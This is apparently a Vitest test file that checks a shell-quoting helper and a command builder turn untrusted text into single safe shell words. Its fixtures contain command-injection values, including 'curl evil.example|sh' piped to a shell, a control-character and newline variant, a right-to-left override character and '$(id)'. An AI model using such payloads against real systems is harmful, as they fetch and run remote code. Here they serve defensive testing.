import { expect, it } from 'vitest';
import { shellWord } from '../../../../console/kit/shell-word.ts';
import { keyCommand } from '../../../../console/screens/accounts/words.ts';

it.each([
  ['shop-images', 'shop-images'],
  ['x;curl evil.example|sh', `'x;curl evil.example|sh'`],
  ["it's $HOME", `'it'\\''s $HOME'`],
  ['', `''`],
  // A terminal would end the line at the first character, and run the second line.
  ['\u0003\ncurl evil.example|sh', `$'\\x03\\x0acurl evil.example|sh'`],
  ["it's \\ \u202ehs", `$'it\\'s \\\\ \\xe2\\x80\\xaehs'`],
])('%s is one word of a shell: %s', (text, word) => {
  expect(shellWord(text)).toBe(word);
});

it('an ID that an address made up runs nothing when the command beside it is pasted', () => {
  expect(keyCommand('$(id)', 'keys')).toBe(`npx portunus accounts keys '$(id)'`);
});
